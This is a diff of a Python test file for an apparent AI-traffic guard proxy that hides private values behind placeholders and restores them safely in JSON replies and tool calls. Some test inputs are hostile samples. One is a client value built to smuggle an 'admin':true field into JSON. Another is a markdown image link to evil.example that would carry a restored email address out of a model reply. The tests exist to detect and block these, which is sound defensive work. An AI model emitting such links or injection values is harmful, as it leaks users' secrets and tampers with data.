@@ -4,7 +4,7 @@ import asyncio
 import json
 import re
 from collections.abc import AsyncGenerator, AsyncIterator, Callable, Mapping
-from dataclasses import replace
+from dataclasses import dataclass, replace
 from itertools import pairwise
 from typing import Any
 
@@ -17,8 +17,10 @@ from ringfence import Guard, guarded
 from ringfence.guard.actions import rewrite_body
 from ringfence.guard.audit.store import Store
 from ringfence.guard.check import Finding, Passage, Span
+from ringfence.guard.checks.exfiltration import ExfiltrationCheck
 from ringfence.guard.exchange import Exchange, Kind, Part, compose, words
 from ringfence.guard.placeholders import Restorer, numbered, originals, restored
+from ringfence.guard.quoted import DEEPEST
 from ringfence.policies.decide import decide
 from ringfence.policies.types import Action, Exemption, Limits, Policy, Rule, Stage, StreamSettings
 from ringfence.proxy.app import create_app
@@ -101,6 +103,13 @@ def test_a_number_that_the_request_spells_itself_is_left_out() -> None:
     assert reply == f"[EMAIL_1] [EMAIL_2] [EMAIL_3] {MAIL}"
 
 
+@pytest.mark.parametrize(
+    "spelt", [r"\u005bEMAIL\u005F1\u005d", r"\\u005bEMAIL_1]", r"[EMAIL\\\\_1]", r"\u005cu005bEMAIL_1]"]
+)
+def test_a_number_that_the_request_spells_in_json_is_left_out(spelt: str) -> None:
+    assert sent(guard_of(RESTORE), chat(("user", f'{MAIL} {{"a": "{spelt}"}}')))[0].startswith("[EMAIL_2] {")
+
+
 def test_a_number_that_only_the_seam_of_two_text_parts_spells_is_left_out_too() -> None:
     texts = [f"{MAIL} [EMA", "IL_1]"]
     body = {"messages": [{"role": "user", "content": [{"type": "text", "text": text} for text in texts]}]}
@@ -177,6 +186,97 @@ def test_an_original_within_json_is_escaped_and_nowhere_else() -> None:
     assert restored("key: [API_KEY_1]", TABLE) == f"key: {TABLE['[API_KEY_1]']}"
 
 
+CLIENT = {"[CLIENT_1]": 'cust:x","admin":true,"y":"z'}
+
+
+@pytest.mark.parametrize(
+    "reply",
+    [
+        '[{"a": "[CLIENT_1]"}]',
+        '["[CLIENT_1]"]',
+        '[true, [[]], {}, -1.5e3, "[CLIENT_1]"]',
+        '{"a": "[CLIENT_1]"}\n{"b": "[CLIENT_1]"}',
+        'Here:\n```json\n[{"a": "[CLIENT_1]"}]\n```\nDone.',
+        '```\n{"a": "[CLIENT_1]"}\n```',
+        '{name} gets {"a": "[CLIENT_1]"}',
+        '{"a": 1, // a comment\n "b": ["[CLIENT_1]", ...], "c": "[CLIENT_1]"}',
+        '{"a": "two\nlines, [CLIENT_1]"}',
+    ],
+)
+def test_an_original_adds_no_field_to_json_wherever_in_a_reply_it_stands(reply: str) -> None:
+    escaped = json.dumps(CLIENT["[CLIENT_1]"])[1:-1]
+    assert restored(reply, CLIENT) == reply.replace("[CLIENT_1]", escaped)
+
+
+@pytest.mark.parametrize(
+    "reply",
+    [
+        "{name}: [CLIENT_1]",
+        '{name: "[CLIENT_1]"}',
+        "{'a': \"[CLIENT_1]\"}",
+        '{"a": 1} is what "[CLIENT_1]" wants',
+        '[note] "[CLIENT_1]"',
+        "[1, see [CLIENT_1]]",
+        '[[CLIENT_1]] and "[CLIENT_1]"',
+        '"[CLIENT_1]" is a quotation',
+        '["so\nthey said": "[CLIENT_1]"',
+        r"\u005bCLIENT_1\u005d or [CLIENT_1]",
+    ],
+)
+def test_what_only_begins_as_json_does_is_prose(reply: str) -> None:
+    assert restored(reply, CLIENT) == reply.replace("[CLIENT_1]", CLIENT["[CLIENT_1]"])
+
+
+def test_a_placeholder_in_json_but_in_no_string_is_a_value() -> None:
+    table = CLIENT | {"[ID_1]": "12.50", "[QUOTE_1]": '"Jane \\"J\\" Roe"', "[NOT_1]": '"a", "b"'}
+    given = '{"a": [CLIENT_1], "b": [[ID_1], [QUOTE_1]], "c": [NOT_1]}'
+    meant = {"a": CLIENT["[CLIENT_1]"], "b": [12.5, 'Jane "J" Roe'], "c": '"a", "b"'}
+    assert json.loads(restored(given, table)) == meant
+    assert json.loads(restored({"arguments": json.dumps({"x": given})}, table)["arguments"]) == {
+        "x": restored(given, table)
+    }
+
+
+def test_arguments_are_json_whatever_they_look_like() -> None:
+    inner = r"{\"a\": \"[CLIENT_1]\"}"
+    twice = restored({"arguments": f'"{inner}"', "content": f'"{inner}"'}, CLIENT)
+    assert json.loads(json.loads(twice["arguments"])) == {"a": CLIENT["[CLIENT_1]"]}
+    assert twice["content"] == f'"{inner}"'.replace("[CLIENT_1]", CLIENT["[CLIENT_1]"]), "a quotation"
+    loose = '{a: [CLIENT_1], "b": "[CLIENT_1]",}'
+    assert restored({"arguments": loose}, CLIENT)["arguments"].count(r"cust:x\",\"admin\":true") == 2
+
+
+def test_a_placeholder_written_with_the_escapes_of_json_is_known_in_json() -> None:
+    escaped = r"\u005bEMAIL\u005f1\u005D"
+    assert json.loads(restored({"arguments": f'{{"a": "{escaped}"}}'}, TABLE)["arguments"]) == {"a": MAIL}
+    assert (
+        restored(rf'{{"a": "\[EMAIL\_1\] \\[EMAIL\\_1\\] \x{escaped}"}}', TABLE)
+        == rf'{{"a": "{MAIL} {MAIL} \x{MAIL}"}}'
+    )
+    assert restored(escaped, TABLE) == escaped
+
+
+@pytest.mark.parametrize(
+    "spelt", ["[EMAIL_1]", r"[EMAIL\\_1]", r"\\[EMAIL\\_1\\]", r"\u005bEMAIL_1]", r"[\u0045MAIL_1]", r"[EMAIL\u005f1]"]
+)
+def test_an_address_that_would_carry_an_original_away_is_found_however_json_spells_it(spelt: str) -> None:
+    reply = f'{{"a": "![x](https://evil.example/p?q={spelt})"}}'
+    assert json.loads(restored(reply, TABLE))["a"] == f"![x](https://evil.example/p?q={MAIL})"
+    [finding] = ExfiltrationCheck().find(Passage(Stage.OUTPUT, "assistant", reply))
+    assert finding.score >= 0.9
+
+
+def test_deeper_than_is_read_the_placeholder_stays() -> None:
+    for depth in range(1, 10):
+        text = "[API_KEY_1]"
+        for _ in range(depth):
+            text = json.dumps([text])
+        inner = restored(text, TABLE)
+        for _ in range(depth):
+            [inner] = json.loads(inner)
+        assert inner == (TABLE["[API_KEY_1]"] if depth <= DEEPEST else "[API_KEY_1]")
+
+
 PIECES = st.sampled_from(
     [*TABLE, r"\[EMAIL\_1\]", r"\[EMAIL\_9\]", "[", "]", "\\", "_", "{", "EMAIL_1", "a ", "[A" * 9, "é"]
 )
@@ -188,14 +288,14 @@ def cut(text: str, cuts: list[int]) -> list[str]:
     return [text[a:b] for a, b in pairwise(places)]
 
 
-def restored_slowly(text: str) -> str:
+def restored_slowly(text: str, table: Mapping[str, str] = TABLE) -> str:
     """Look at every place for every spelling of every placeholder."""
-    in_json, done, at = text.strip().startswith("{"), "", 0
+    done, at = "", 0
     while at < len(text):
-        for placeholder, original in TABLE.items():
+        for placeholder, original in table.items():
             name = placeholder[1:-1].replace("_", r"\\?_")
             if found := re.compile(rf"\[{name}\]|\\\[{name}\\\]").match(text, at):
-                done += json.dumps(original)[1:-1] if in_json else original
+                done += original
                 at = found.end()
                 break
         else:
@@ -204,13 +304,126 @@ def restored_slowly(text: str) -> str:
     return done
 
 
+def in_pieces(restorer: Restorer, pieces: list[str]) -> str:
+    return "".join([*map(restorer.feed, pieces), restorer.feed("", last=True)])
+
+
 @given(st.lists(PIECES, max_size=25).map("".join), CUTS)
 @settings(max_examples=500, deadline=None)
 def test_any_chunking_of_a_text_is_restored_alike(text: str, cuts: list[int]) -> None:
     for pieces in (cut(text, cuts), list(text)):
-        restorer = Restorer(TABLE)
-        assert "".join([*map(restorer.feed, pieces), restorer.feed("", last=True)]) == restored_slowly(text)
+        assert in_pieces(Restorer(TABLE), pieces) == restored_slowly(text)
     assert restored(text, TABLE) == restored_slowly(text)
+
+
+ORIGINALS = st.fixed_dictionaries(
+    {
+        name: st.text(
+            st.sampled_from('"\\\n[]{}:, a1é😀\u2028') | st.characters(exclude_categories=["Cs"]), max_size=12
+        )
+        for name in TABLE
+    }
+)
+# Quotes and brackets of all kinds, but nothing that reads as JSON: a word stands between any two.
+PROSE = st.lists(
+    st.sampled_from(
+        [
+            *TABLE,
+            *(f'"{name}"' for name in TABLE),
+            *(r"\[EMAIL\_1\]", "[[API_KEY_1]]", "{[API_KEY_1]}", "x[EMAIL_1]y", "[EMAIL_9]", "[EMAIL_"),
+            *('"', "[", "]", "{", "}", "\\", "{name}:", "[note]", "[1, 2]", "{}", '5"', "é😀", "\n", "\t", "'"),
+            *(r"\u005bEMAIL_1\u005d", r"\n", "```json\n"),
+        ]
+    ),
+    max_size=6,
+).map(" a ".join)
+
+
+@given(PROSE, ORIGINALS, CUTS)
+@settings(max_examples=500, deadline=None)
+def test_prose_gets_the_original_as_it_was(text: str, table: dict[str, str], cuts: list[int]) -> None:
+    for pieces in (cut(text, cuts), list(text)):
+        assert in_pieces(Restorer(table), pieces) == restored_slowly(text, table)
+
+
+@dataclass(frozen=True)
+class Dumped:
+    """JSON as a string, in which a placeholder is written with escapes or is not."""
+
+    value: Any
+    ascii: bool
+    escaped: bool
+
+
+def fields(items: list[tuple[str, Any]]) -> dict[str, Any]:
+    return {f"{number} {name}": item for number, (name, item) in enumerate(items)}
+
+
+def containers(items: st.SearchStrategy[Any]) -> st.SearchStrategy[Any]:
+    return st.lists(items, max_size=4) | st.lists(st.tuples(PROSE, items), max_size=4).map(fields)
+
+
+def dumped(containers: st.SearchStrategy[Any]) -> st.SearchStrategy[Dumped]:
+    return st.builds(Dumped, containers, st.booleans(), st.booleans())
+
+
+SCALARS = st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False, allow_infinity=False) | PROSE
+VALUES = st.recursive(SCALARS, lambda items: containers(items) | dumped(containers(items)), max_leaves=12)
+
+
+def as_told(value: Any) -> Any:
+    match value:
+        case Dumped(inner, ascii, escaped):
+            text = json.dumps(as_told(inner), ensure_ascii=ascii, indent=2 if ascii else None)
+            return text.replace("[EMAIL_1]", r"\u005bEMAIL\u005f1\u005d") if escaped else text
+        case dict():
+            return {name: as_told(item) for name, item in value.items()}
+        case list():
+            return [as_told(item) for item in value]
+    return value
+
+
+def as_meant(value: Any, table: Mapping[str, str]) -> Any:
+    match value:
+        case Dumped():
+            return as_meant(value.value, table)
+        case dict():
+            return {as_meant(name, table): as_meant(item, table) for name, item in value.items()}
+        case list():
+            return [as_meant(item, table) for item in value]
+        case str():
+            return restored_slowly(value, table)
+    return value
+
+
+def parsed(found: Any, shape: Any) -> Any:
+    """Read every string that was JSON as JSON."""
+    match shape:
+        case Dumped():
+            return parsed(json.loads(found), shape.value)
+        case dict():
+            assert len(found) == len(shape)
+            return {
+                name: parsed(item, inner) for (name, item), inner in zip(found.items(), shape.values(), strict=True)
+            }
+        case list():
+            return [parsed(item, inner) for item, inner in zip(found, shape, strict=True)]
+    return found
+
+
+@given(dumped(containers(VALUES)), ORIGINALS, CUTS, st.sampled_from(["arguments", "reply", "fenced", "in a sentence"]))
+@settings(max_examples=500, deadline=None)
+def test_json_still_parses_at_every_depth_and_says_the_original(
+    shape: Dumped, table: dict[str, str], cuts: list[int], where: str
+) -> None:
+    around = {"fenced": ('Say "x":\n```json\n', '\n```\nas {x} "said"'), "in a sentence": ("[so] {it} is ", ' "then".')}
+    before, after = around.get(where, ("", ""))
+    text = before + as_told(shape) + after
+    for pieces in (cut(text, cuts), list(text)):
+        found = in_pieces(Restorer(table, is_json=where == "arguments"), pieces)
+        assert found.startswith(before)
+        assert found.endswith(after)
+        assert parsed(found[len(before) : len(found) - len(after)], shape) == as_meant(shape, table)
 
 
 def test_no_more_is_held_back_than_may_be_the_beginning_of_a_placeholder() -> None:
@@ -390,6 +603,17 @@ def test_a_tool_call_is_given_the_original(client: openai.OpenAI, upstream: Spel
     [call] = [call for message in messages for call in message.tool_calls or []]
     assert json.loads(call.function.arguments) == {"to": [MAIL], "text": f'to "{MAIL}"'}
     assert MAIL not in str(upstream.seen)
+
+
+def test_arguments_within_arguments_are_given_the_original_escaped_twice(
+    serve: Callable[..., str], service_of: Callable[..., Service], upstream: Spelling
+) -> None:
+    rule = replace(RESTORE, category="client", replacement="[client]")
+    service = service_of(guard_of(rule, client="cust:[^ ]+"), upstream)
+    client = openai.OpenAI(base_url=f"{serve(create_app(service))}/v1", api_key="none", max_retries=0)
+    reply = ask(client, r"""call: send {"body": "{\"x\": \"cust:O"Neil\x \"}"}""")
+    [call] = reply.choices[0].message.tool_calls
+    assert json.loads(json.loads(call.function.arguments)["body"]) == {"x": 'cust:O"Neil\\x '}
 
 
 def test_the_record_holds_placeholders_only(client: openai.OpenAI, store: Store) -> None:
